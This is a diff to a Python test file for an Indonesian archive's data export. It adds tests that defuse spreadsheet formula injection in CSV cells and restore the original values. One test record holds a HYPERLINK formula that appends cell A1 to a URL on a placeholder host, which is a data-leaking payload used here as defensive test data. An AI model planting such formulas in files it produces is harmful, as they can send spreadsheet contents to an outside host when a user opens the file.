@@ -8,14 +8,22 @@ import jsonschema
 import pytest
 
 from arsip_core.model import CountItem, Official, Place, Record
-from arsip_data.describe import citation, date_range, record_citation
+from arsip_data.describe import citation, date_range
 from arsip_data.dictionary import (
     FIELD_NAMES,
     JSON_COLUMNS,
     missing_from_dictionary,
     record_schema,
 )
-from arsip_data.export import from_csv, record_data, to_csv, to_geojson, to_json
+from arsip_data.export import (
+    defuse,
+    from_csv,
+    record_data,
+    restore,
+    to_csv,
+    to_geojson,
+    to_json,
+)
 
 VALIDATOR = jsonschema.Draft202012Validator(
     record_schema(), format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
@@ -59,6 +67,14 @@ CASES = {
         places=(Place("Tempat tanpa koordinat", "", "Kalimantan Utara"),),
     ),
     "unicode": Record(id="123456789abc", title="Pengamanan — “TPS” ½ é 漢"),
+    "rumus_spreadsheet": Record(
+        id="fedcbafedcba",
+        title='=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")',
+        outlet="'=sudah berapostrof",
+        author="-2+3",
+        operation="@SUM(A1)",
+        personnel_text="-5 personel",
+    ),
 }
 
 
@@ -82,6 +98,25 @@ def test_csv_holds_lists_and_objects_as_json_text():
     assert header.split(",") == list(FIELD_NAMES)
     assert '"[""Polda Kalbar""]"' in line
     assert JSON_COLUMNS >= {"places", "police_units", "activities", "officials"}
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+62 811", "'+62 811"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("-x", "'-x"),
+        ("\tTab", "'\tTab"),
+        ("'=x", "''=x"),
+        ("-5 personel", "-5 personel"),
+        ("Polda Kalbar", "Polda Kalbar"),
+        ("'kutip", "'kutip"),
+    ],
+)
+def test_formula_cells_are_defused_and_restored(value, cell):
+    assert defuse(value) == cell
+    assert restore(cell) == value
 
 
 def test_blank_optional_text_is_null():
@@ -135,14 +170,3 @@ def test_date_range_and_citations():
         license_name="X",
     )
     assert text == "Tim. (2024). Arsip [Data set], versi 2024-11-27. /data/. Lisensi X."
-    one = record_citation(
-        outlet=None,
-        title="Judul",
-        published=None,
-        url=None,
-        archive="Arsip",
-        page_url="/artikel/j/",
-        record_id="abc",
-    )
-    assert one.startswith("Media tidak diketahui. (t.t.). Judul.")
-    assert one.endswith("rekaman abc: /artikel/j/.")
